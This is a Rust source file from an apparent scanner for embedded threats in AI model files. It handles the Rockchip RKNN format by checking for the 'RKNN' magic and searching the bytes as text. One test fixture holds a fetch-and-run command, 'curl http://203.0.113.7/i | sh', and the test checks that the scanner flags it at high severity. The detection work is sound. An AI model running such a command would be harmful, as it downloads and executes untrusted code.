//! Rockchip NPU models: the magic `RKNN`, a length, compiled data, a JSON description.
//!
//! Source: layout as `rknn-toolkit2` writes it; the compiled part is not published. What a reader can judge is text:
//! names, the JSON description, and whatever else was put there. Cost: one pass over the bytes.

use super::native_library::{NATIVE_LIBRARY, inspect_binary};
use crate::{Format, Input, Recognition, Scan};
use bartizan_core::{Kind, Rule};

/// RKNN models.
pub static RKNN: Rknn = Rknn;

/// See [`RKNN`].
#[derive(Debug, Clone, Copy)]
pub struct Rknn;

impl Format for Rknn {
    fn id(&self) -> &'static str {
        "rknn"
    }

    fn name(&self) -> &'static str {
        "RKNN model"
    }

    fn kind(&self) -> Kind {
        Kind::Model
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["rknn"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[&NATIVE_LIBRARY]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        if input.bytes.starts_with(b"RKNN") {
            Recognition::Certain
        } else if input.extension() == "rknn" {
            Recognition::Weak
        } else {
            Recognition::No
        }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        if !input.bytes.starts_with(b"RKNN") {
            scan.gap(0, "no RKNN magic: an encrypted or unknown variant, searched as text only");
        }
        inspect_binary(input.bytes, 0, scan);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::testing::{outcome, rules_of};
    use bartizan_core::Severity;
    use proptest::prelude::*;

    #[test]
    fn labels_are_silent_and_commands_are_high() {
        assert_eq!(rules_of(&RKNN, b"RKNN\x01\0\0\0label=execute_mode_fast\n"), Vec::<&str>::new());
        let found = outcome(&RKNN, b"RKNN\x01\0\0\0note=`curl http://203.0.113.7/i | sh`");
        assert!(found.findings[0].severity >= Severity::High);
    }

    proptest! {
        #[test]
        fn any_bytes_give_a_result(bytes: Vec<u8>) {
            outcome(&RKNN, &[b"RKNN".as_slice(), &bytes].concat());
        }
    }
}
